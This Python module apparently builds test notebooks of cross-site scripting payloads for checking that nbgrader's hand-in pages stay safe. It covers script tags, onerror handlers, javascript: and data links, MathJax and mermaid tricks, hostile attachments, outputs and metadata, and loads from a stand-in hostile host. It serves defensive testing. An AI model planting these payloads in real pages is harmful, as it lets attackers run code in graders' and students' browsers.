"""Scripts for whoever opens a page on which the hand-in is shown: a marker, another student.

They earn no points, and want none: a script that runs in the form grader has what its reader has,
which is the server that grades. ``{run}`` is a call that a browser can tell (see the tests).
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any

from .attack import Corpus, Notebook, code_cell, grade_id_of

ELSEWHERE = "http://hostile-hand-in.example"  # nothing may be loaded from there

_IMG = "<img src=x onerror={run}>"
_SVG = "<svg xmlns='http://www.w3.org/2000/svg'><script>{run}</script></svg>"
_IN_BASE64 = base64.b64encode(_SVG.replace("{run}", "alert(1)").encode()).decode()

# Markdown, by what it is
TEXTS: dict[str, dict[str, str]] = {
    "tags in a text": {
        "script": "<script>{run}</script>",
        "script from elsewhere": f"<script src={ELSEWHERE}/x.js></script>",
        "script module": "<script type=module>{run}</script>",
        "picture": _IMG,
        "picture with slashes": "<IMG/SRC=x/OnErRoR={run}>",
        "picture over lines": "<img\nsrc=x\nonerror={run}\n>",
        "picture with a tab": "<img\tsrc=x\tonerror={run}>",
        "picture that is not closed": "text <img src=x onerror={run} ",
        "picture in a picture": '<img alt="<img src=x onerror={run}>">',
        "picture with a good source": (
            '<img src="data:image/png;base64,AA==" alt="x" onerror={run}>'
        ),
        "picture with a backtick": '` <img src="x` onerror={run} alt="">',
        "picture after less-than signs": f"<<<{_IMG}",
        "drawing": "<svg onload={run}></svg>",
        "drawing with a script": "<svg><script>{run}</script></svg>",
        "drawing with a link": (
            "<svg><a xlink:href=javascript:{run}><text y=20>x</text></a></svg>"
        ),
        "drawing that animates a link": (
            "<svg><a><animate attributeName=href values=javascript:{run} />"
            "<text y=20>x</text></a></svg>"
        ),
        "drawing with a document": f"<svg><foreignObject>{_IMG}</foreignObject></svg>",
        "drawing that uses another": (
            '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'
            '<image href=1 onerror={run} /></svg>#x"/></svg>'
        ),
        "mathematics": "<math href=javascript:{run}>x</math>",
        "mathematics, parsed twice": (
            "<math><mtext><table><mglyph><style><!--</style>"
            '<img title="--&gt;&lt;img src=1 onerror={run}&gt;">'
        ),
        "what is parsed without scripts": (
            '<noscript><p title="</noscript><img src=x onerror={run}>">'
        ),
        "frame": "<iframe srcdoc='<script>{run}</script>'></iframe>",
        "frame with an address": "<iframe src=javascript:{run}></iframe>",
        "frame from elsewhere": f"<iframe src={ELSEWHERE}/frame></iframe>",
        "object": "<object data=javascript:{run}></object>",
        "embedded": f"<embed src={ELSEWHERE}/embed>",
        "video": "<video><source onerror={run}></video>",
        "sound": "<audio src=x onerror={run}></audio>",
        "details": "<details open ontoggle={run}>x</details>",
        "field": "<input autofocus onfocus={run}>",
        "marquee": "<marquee onstart={run}>x</marquee>",
        "body": "<body onload={run} onpageshow={run}>",
        "animation": (
            "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart={run}>x</b>"
        ),
        "style from elsewhere": f"<style>@import '{ELSEWHERE}/x.css';</style>",
        "style of the page": f'<p style="background:url({ELSEWHERE}/x.png)">x</p>',
        "style sheet": f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
        "prefetch": f"<link rel=prefetch href={ELSEWHERE}/x>",
        "another address": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
        "another base": f"<base href={ELSEWHERE}/>",
        "form": "<form action=javascript:{run}><button>x</button></form>",
        "link in a tag": "<a href=javascript:{run}>x</a>",
        "link in a tag with a tab": '<a href="jav&#x09;ascript:{run}">x</a>',
        "link in a map": "<map name=m><area shape=rect coords=0,0,9,9 href=javascript:{run}></map>",
        "comment": f"<!--><{_IMG}-->",
        "comment that ends twice": f"<!-- --!>{_IMG} -->",
        "CDATA": f"<![CDATA[{_IMG}]]>",
        "processing instruction": f"<?x >{_IMG}?>",
        "end of a tag": f"</p></div></div></div></style></title></textarea>{_IMG}",
        "preformatted": f"<pre>\n\n{_IMG}\n\n",
        "plain tag with an attribute": "<b onmouseover={run}>x</b><sub/onclick={run}>x</sub>",
        "heading": f"# a {_IMG}\n\n## {_IMG}",
        "table": f"| a | b |\n| --- | --- |\n| {_IMG} | x |\n",
        "list": f"- {_IMG}\n  1. {_IMG}",
        "quotation": f"> {_IMG}\n> > {_IMG}",
        "entities": "&lt;img src=x onerror={run}&gt; &#60;img src=x onerror={run}&#62;",
        "escaped": "\\<img src=x onerror={run}>",
    },
    "links in a text": {
        "link": "[x](javascript:{run})",
        "link in capitals": "[x](JaVaScRiPt:{run})",
        "link by number": "[x](java&#115;cript:{run})",
        "link by number from the start": "[x](&#x6A;avascript:{run})",
        "link with its colon by name": "[x](javascript&colon;{run})",
        "link with its colon escaped": "[x](javascript\\:{run})",
        "link with a tab": "[x](<java\tscript:{run}>)",
        "link with a tab by name": "[x](java&Tab;script:{run})",
        "link after spaces": "[x](<  javascript:{run}>)",
        "link on the next line": "[x](\njavascript:{run})",
        "link after a control character": "[x](\x01javascript:{run})",
        "link below files": "[x](files/javascript:{run})",
        "link below the server's files": "[x](/files/javascript:{run})",
        "link below files, defined": "[x]\n\n[x]: /files/javascript:{run}",
        "link that is defined": "[x]\n\n[x]: javascript:{run}",
        "link that is defined on the next line": "[x][y]\n\n[y]:\n  javascript:{run}",
        "link that is defined in a quotation": "> [x]\n>\n> [x]:\n> javascript:{run}",
        "link that is defined in angles": "[x]\n\n[x]: <javascript:{run}> 'title'",
        "link that is its own text": "<javascript:{run}>",
        "link to data": "[x](data:text/html,<script>{run}</script>)",
        "link to data in base64": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "link to Visual Basic": "[x](vbscript:{run})",
        "link round a picture": "[![x](data:image/png;base64,AA==)](javascript:{run})",
        "link with a title": '[x](https://x.example "a\\" onmouseover={run} ")',
        "link with a quote": '[x](https://x.example/"onmouseover={run})',
        "picture with a script": "![x](javascript:{run})",
        "picture with a title": '![x](x "a\\" onerror={run} ")',
        "picture with a text": '![x" onerror={run} "](x)',
        "picture with a quote": '![x](x"onerror={run})',
        "picture with markup for text": f"![{_IMG}](x)",
        "drawing as data": f"![x](data:image/svg+xml;base64,{_IN_BASE64})",
    },
    "formulas and code in a text": {
        "formula": f"$a {_IMG} b$",
        "formula of its own": f"$$\n</script>{_IMG}\n$$",
        "environment": f"\\begin{{align}} {_IMG} \\end{{align}}",
        "formula that is a link": "$\\href{javascript:{run}}{x}$",
        "formula that is a link, loaded": "$\\require{html}\\href{javascript:{run}}{x}$",
        "formula that is a link by another name": "$\\let\\y\\href \\y{javascript:{run}}{x}$",
        "formula that defines a link": "$\\def\\y#1{\\href{#1}{x}}\\y{javascript:{run}}$",
        "formula by number": "\\$&#92;href{javascript:{run}}{x}\\$",
        "formula by numbers": "\\$\\hre&#102;{javascript:{run}}{x}\\$",
        "formula with two backslashes": "\\$\\\\href{javascript:{run}}{x}\\$",
        "formula with a style": f"$\\style{{background:url({ELSEWHERE}/x.png)}}{{x}}$",
        "formula with a class": "$\\class{x\" onmouseover=\"{run}}{x}$",
        "formula with an identifier": "$\\cssId{x\" onmouseover=\"{run}}{x}$",
        "formula with a font": "$\\unicode[x\" onmouseover=\"{run}]{65}$",
        "diagram": f"```mermaid\n{_IMG}\n```",
        "diagram in capitals": f"```Mermaid\n{_IMG}\n```",
        "diagram with spaces": f"~~~~   mermaid\n{_IMG}\n~~~~",
        "diagram by number": f"```&#109;ermaid\n{_IMG}\n```",
        "diagram of links": (
            '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD\n'
            'A["<img src=x onerror={run}>"]\nclick A href "javascript:{run}"\n```'
        ),
        "diagram in a list": f"- a\n\n  ```mermaid\n  {_IMG}\n  ```",
        "code": f"`{_IMG}` ``{_IMG}``\n\n    {_IMG}\n\n```html\n{_IMG}\n```",
        "code that ends": f"```\n```{_IMG}\n`` ` {_IMG}",
        "code in a language": '```"><img src=x onerror={run}>\nx\n```',
        "code in a language that is an attribute": '```x" onclick="{run}\nx\n```',
    },
}  # fmt: skip

ATTACHMENTS: dict[str, dict[str, Any]] = {
    "drawing": {"x.svg": {"image/svg+xml": _IN_BASE64}},
    "page": {"x.html": {"text/html": base64.b64encode(b"<script>alert(1)</script>").decode()}},
    "kind of a picture": {"x.png": {'image/png" onerror="{run}': "AA=="}},
    "data of a picture": {"x.png": {"image/png": '"><img src=x onerror={run}>'}},
    "name of a picture": {'x" onerror="{run}': {"image/png": "AA=="}},
    "no picture": {"x.png": {"image/png": "no picture at all"}, "y.png": 5},
}
OUTPUTS: dict[str, dict[str, Any]] = {
    "text/html": {"text/html": f"<script>{{run}}</script>{_IMG}"},
    "a drawing": {"image/svg+xml": _SVG},
    "JavaScript": {"application/javascript": "{run}"},
    "Markdown": {"text/markdown": f"{_IMG} [x](javascript:{{run}})"},
    "LaTeX": {"text/latex": f"{_IMG} $\\href{{javascript:{{run}}}}{{x}}$"},
    "a diagram": {"text/vnd.mermaid": f"graph TD; A[{_IMG}]"},
    "a picture": {"image/png": '"><img src=x onerror={run}>'},
    "a widget": {
        "application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>{run}</script>"}
    },
    "text": {"text/plain": _IMG},
    "an unknown kind": {f"text/{_IMG}": "x"},
}
NAMES = {
    "a tag": "<img src=x onerror={run}>",
    "the end of a string": '";{run};"',
    "the end of an attribute": '" autofocus onfocus={run} x="',
}


def text_cell(text: str, kind: str = "markdown") -> dict[str, Any]:
    """A cell of text that nbgrader does not know."""
    return {"cell_type": kind, "metadata": {}, "source": text}


def attached(attachments: dict[str, Any]) -> dict[str, Any]:
    """A cell that shows what is attached to it, and something that is not."""
    shown = "\n".join(
        f"![x](attachment:{name}) <img src='attachment:{name}'>" for name in attachments
    )
    return {**text_cell(f"{shown}\n![x](attachment:missing.png)"), "attachments": attachments}


def with_output(data: dict[str, Any]) -> dict[str, Any]:
    """A code cell that was saved with an output, and one that shows it when it is run."""
    saved = {"output_type": "display_data", "metadata": {}, "data": data}
    shown = f"from IPython.display import display\ndisplay({data!r}, raw=True)\nprint({data!r})"
    return {**code_cell(shown), "outputs": [saved]}


def running(tree: Any, run: str) -> Any:
    """The same tree of texts with ``run`` in place of {run}."""
    if isinstance(tree, str):
        return tree.replace("{run}", run)
    if isinstance(tree, dict):
        return {running(key, run): running(value, run) for key, value in tree.items()}
    return [running(each, run) for each in tree] if isinstance(tree, list) else tree


def cells_of(kind: str) -> dict[str, dict[str, Any]]:
    """The cells of a kind of page attacks, by name."""
    if kind == "attachments":
        return {name: attached(each) for name, each in ATTACHMENTS.items()}
    if kind == "outputs":
        return {name: with_output(each) for name, each in OUTPUTS.items()}
    if kind == "raw cells":
        texts = {name: text for each in TEXTS.values() for name, text in each.items()}
        return {name: text_cell(text, "raw") for name, text in texts.items()}
    return {name: text_cell(text) for name, text in TEXTS[kind].items()}


KINDS = (*TEXTS, "attachments", "outputs", "raw cells")


def hostile_metadata(notebook: Notebook, run: str = "alert(1)") -> None:
    """Write markup wherever metadata of a notebook and its cells may reach a page."""
    tag = running(f'"></title></script></style>{_IMG}', run)
    notebook["metadata"] = {
        "title": tag,
        "kernelspec": {"name": tag, "display_name": tag, "language": tag},
        "language_info": {"name": tag, "pygments_lexer": tag, "mimetype": tag},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {tag: {}}}},
    }
    for number, cell in enumerate(notebook["cells"]):
        metadata = cell["metadata"]
        metadata.update(
            tags=[tag], name=tag, raw_mimetype="text/html", format="text/html", trusted=True
        )
        if grade_id_of(cell) is None:
            cell["id"] = f"{tag}{number}"
            metadata["nbgrader"] = {"grade_id": f"{tag}{number}", "points": tag, "solution": True}


def answer_of(notebook: Notebook) -> dict[str, Any]:
    """The cell of the written answer."""
    found: dict[str, Any] = next(
        cell for cell in notebook["cells"] if str(grade_id_of(cell)).startswith("written-")
    )
    return found


PAGES = Corpus("scripts for whoever opens it")


def _all_of(kind: str) -> Callable[[Notebook], object]:
    def change(notebook: Notebook) -> None:
        cells = running(list(cells_of(kind).values()), "alert(1)")
        notebook["cells"] += cells
        answer_of(notebook)["source"] = "\n\n".join(cell["source"] for cell in cells)

    return change


for _kind in KINDS:
    PAGES.notebook(f"scripts: {_kind}", _all_of(_kind))
PAGES.notebook("scripts: metadata", hostile_metadata)

ATTACKS = PAGES.attacks
